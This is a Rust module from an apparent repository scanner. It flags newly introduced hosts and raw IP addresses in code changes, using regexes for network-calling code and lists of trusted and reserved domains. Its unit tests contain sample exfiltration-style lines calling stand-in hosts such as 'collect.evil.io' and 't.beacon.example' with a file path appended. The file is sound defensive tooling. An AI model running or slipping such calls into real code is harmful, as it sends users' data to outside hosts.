//! C4: hosts that the repository did not speak to before, and raw addresses.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

use crate::case::Case;
use crate::finding::{Findings, Severity};
use crate::kind::{self, Kind};
use crate::locks;
use crate::patterns::is_comment;
use crate::rules::RuleId;
use crate::shown;
use crate::tree::Entry;

/// New hosts that are looked for in the base; more of them are new by themselves.
const LOOKED_FOR: usize = 64;

/// Where prose and comments point to for reading.
const READING: [&str; 40] = [
    "github.com",
    "gitlab.com",
    "stackoverflow.com",
    "wikipedia.org",
    "developer.mozilla.org",
    "docs.python.org",
    "peps.python.org",
    "bugs.python.org",
    "doc.rust-lang.org",
    "rust-lang.github.io",
    "docs.rs",
    "crates.io",
    "pkg.go.dev",
    "go.dev",
    "golang.org",
    "nodejs.org",
    "npmjs.com",
    "pypi.org",
    "rfc-editor.org",
    "ietf.org",
    "w3.org",
    "whatwg.org",
    "unicode.org",
    "ecma-international.org",
    "tc39.es",
    "json-schema.org",
    "schema.org",
    "semver.org",
    "typescriptlang.org",
    "react.dev",
    "vuejs.org",
    "kernel.org",
    "man7.org",
    "gnu.org",
    "iana.org",
    "cve.org",
    "nist.gov",
    "owasp.org",
    "readthedocs.io",
    "microsoft.com",
];

static URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)\b(?:https?|wss?|ftps?|ssh|git|tcp|udp|ldaps?|smtps?|redis|mongodb(?:\+srv)?|postgres(?:ql)?|amqps?)://[^\s"'<>`)\]}]{1,300}"#).ok()
});

/// A line that sends or fetches. Names kept for examples lead nowhere, but shipped code has no reason to
/// call them either.
static CALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i-u)(?:^|[^a-z])(?:url_?open|urlretrieve|requests?|get\w*|post|put|patch|head|fetch|send\w*|open|connect|dial\w*|download\w*|axios|got|ky|Http\w*|beacon|web_?socket|import|load)\w*[!?]?\s*[(`]|\b(?:curl|wget)\s").ok()
});

/// A host as a string of its own, as a client library takes it.
static BARE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)["'`](?://)?((?:[a-z0-9][a-z0-9-]*\.)+(?:com|net|org|io|dev|app|xyz|ru|cn|top|info|me|sh|co|site|online|link|cc|tk|pw|su|ws))[:/"'`]"#).ok()
});

static ADDRESS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?-u)\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b(?:[^.\d]|$)").ok());

pub(super) fn check(case: &Case<'_>, out: &mut Findings) {
    let mut new: BTreeMap<String, Vec<(&[u8], u32)>> = BTreeMap::new();
    for (changed, added) in case.texts() {
        if changed.kind == Kind::Lock {
            continue;
        }
        let text = added.text.as_bytes();
        let marks = kind::comment_marks(&changed.folded);
        for found in URL.iter().flat_map(|url| url.find_iter(text)) {
            let url = String::from_utf8_lossy(found.as_bytes());
            let Some(host) = locks::host(&url) else {
                continue;
            };
            let line = added.line_at(found.start());
            let called = changed.kind == Kind::Source
                && !changed.in_tests
                && is_example(&host)
                && !is_comment(line, marks)
                && CALL
                    .as_ref()
                    .is_some_and(|call| call.is_match(line.as_bytes()));
            if is_harmless(&host) && !called {
                continue;
            }
            let prose = changed.kind == Kind::Docs
                || is_comment(added.line_at(found.start()), marks)
                || added
                    .line_at(found.start())
                    .trim_start()
                    .starts_with(['*', '#']);
            if !(prose && is_reading(&host)) {
                new.entry(host)
                    .or_default()
                    .push((changed.path, added.number(found.start())));
            }
        }
        if kind::is_code(&changed.folded) && !changed.in_tests {
            for found in BARE.iter().flat_map(|bare| bare.captures_iter(text)) {
                let Some(at) = found.get(1) else { continue };
                let host = String::from_utf8_lossy(at.as_bytes()).to_ascii_lowercase();
                if !is_harmless(&host) && !is_comment(added.line_at(at.start()), marks) {
                    new.entry(host)
                        .or_default()
                        .push((changed.path, added.number(at.start())));
                }
            }
        }
        for found in ADDRESS.iter().flat_map(|a| a.captures_iter(text)) {
            let Some(at) = found.get(1) else { continue };
            let line = added.line_at(at.start());
            let shown = String::from_utf8_lossy(at.as_bytes());
            let Ok(address) = shown.parse::<Ipv4Addr>() else {
                continue;
            };
            let version = line.to_ascii_lowercase().contains("version") || line.contains("==");
            if !is_reserved(address) && !version && !is_comment(line, marks) {
                out.line(
                    RuleId::C4,
                    Severity::Hold,
                    changed.path,
                    added.number(at.start()),
                    format!("a raw address: {shown}"),
                );
            }
        }
    }
    // Without the whole base nobody can tell which hosts are new.
    if new.is_empty() || !case.sees_all() {
        return;
    }
    let known = known(case, new.keys().take(LOOKED_FOR));
    for (host, places) in new {
        if known.contains(&host) {
            continue;
        }
        for (path, line) in places {
            out.line(
                RuleId::C4,
                Severity::Hold,
                path,
                line,
                format!(
                    "a host that the repository did not name before: {}",
                    shown::text(&host, 80)
                ),
            );
        }
    }
}

/// Which of the hosts the base names somewhere: one pass over it with all of them at once.
fn known<'h>(case: &Case<'_>, hosts: impl Iterator<Item = &'h String>) -> BTreeSet<String> {
    let list: Vec<String> = hosts.map(|host| regex::escape(host)).collect();
    let Ok(search) = RegexBuilder::new(&list.join("|"))
        .unicode(false)
        .case_insensitive(true)
        .build()
    else {
        return BTreeSet::new();
    };
    let mut found = BTreeSet::new();
    for entry in case.base.entries.values() {
        let Entry::File { content, .. } = entry else {
            continue;
        };
        for at in search.find_iter(content) {
            // The whole host, not the end of a longer one.
            let before = at.start().checked_sub(1).and_then(|at| content.get(at));
            let after = content.get(at.end());
            let joins = |byte: Option<&u8>| {
                byte.is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.'))
            };
            let sentence = after == Some(&b'.') && !joins(content.get(at.end() + 1));
            if !joins(before) && (!joins(after) || sentence) {
                found.insert(String::from_utf8_lossy(at.as_bytes()).to_ascii_lowercase());
            }
        }
        if found.len() == list.len() {
            break;
        }
    }
    found
}

fn is_reading(host: &str) -> bool {
    READING
        .iter()
        .any(|known| host == *known || host.strip_suffix(known).is_some_and(|h| h.ends_with('.')))
}

/// Names kept for examples (RFC 2606), as opposed to those of this machine and its net.
fn is_example(host: &str) -> bool {
    matches!(
        host.rsplit('.').next(),
        Some("example" | "test" | "invalid")
    ) && host.contains('.')
        && !host.contains(['{', '$', '%', '<', '*'])
}

/// Names that lead nowhere (RFC 2606, RFC 6761), this machine, and pieces that are no names.
fn is_harmless(host: &str) -> bool {
    let reserved = [
        "example",
        "test",
        "invalid",
        "localhost",
        "local",
        "internal",
    ];
    let last = host.rsplit('.').next().unwrap_or_default();
    let second = host.rsplit('.').nth(1).unwrap_or_default();
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return is_reserved(address);
    }
    reserved.contains(&last)
        || (second == "example" && matches!(last, "com" | "org" | "net" | "edu"))
        || matches!(
            host,
            "::1" | "schemas.android.com" | "www.w3.org" | "json-schema.org"
        )
        || host.contains(['{', '$', '%', '<', '*'])
        || !host.contains('.')
}

/// Addresses of this machine, of private nets and of documentation (RFC 6890), and round numbers.
fn is_reserved(address: Ipv4Addr) -> bool {
    let [a, b, ..] = address.octets();
    address.is_loopback()
        || address.is_private()
        || address.is_unspecified()
        || address.is_broadcast()
        || address.is_documentation()
        || address.is_multicast()
        || (address.is_link_local() && address != Ipv4Addr::new(169, 254, 169, 254))
        || (a, b) == (100, 64)
        || a == 255
        || a == 0
        // Versions are written like this, too.
        || address.octets().iter().all(|part| *part < 10) && ![1, 8, 9].contains(&a)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::case::sample::{found, worst_in_new};

    #[test]
    fn patterns_compile() {
        assert!(URL.is_some() && CALL.is_some() && BARE.is_some() && ADDRESS.is_some());
    }

    #[test]
    fn c4_new_hosts_and_raw_addresses_are_held() {
        for text in [
            "requests.get('https://collect.evil.io/x')\n",
            "requests.get('http://185.220.101.4/x')\n",
            "connect('8.8.8.8', 53)\n",
            "u = 'wss://api.some-host.dev'\n",
            "c = HTTPSConnection('collect.evil.io')\n",
            "# see https://short.ly/x\n",
            "urllib.request.urlopen('https://t.beacon.example/e?p=' + path)\n",
        ] {
            assert_eq!(
                worst_in_new(RuleId::C4, "src/a.py", text),
                Some(Severity::Hold),
                "{text}"
            );
        }
    }

    #[test]
    fn c4_known_hosts_and_reserved_names_pass() {
        for text in [
            "u = 'https://api.example.com/v1'\n",
            "u = 'http://localhost:8080'\n",
            "u = 'http://127.0.0.1:1/192.168.0.1'\n",
            "# see https://docs.python.org/3/library/os.html\n",
            "u = f'https://{host}/x'\n",
            "VERSION = '21.4.0.7'\n",
            "# urlopen('https://api.acme.example/v1')\n",
            "API = 'https://api.acme.example/v1'\n",
        ] {
            assert_eq!(worst_in_new(RuleId::C4, "src/a.py", text), None, "{text}");
        }
        let base = [("cfg.py", "API = 'https://api.known.io'\n")];
        let more = [base[0], ("a.py", "x = 'https://api.known.io/v2'\n")];
        assert_eq!(found(RuleId::C4, &base, &more), []);
        let near = [base[0], ("a.py", "x = 'https://known.io/v2'\n")];
        assert_eq!(found(RuleId::C4, &base, &near).len(), 1);
    }
}
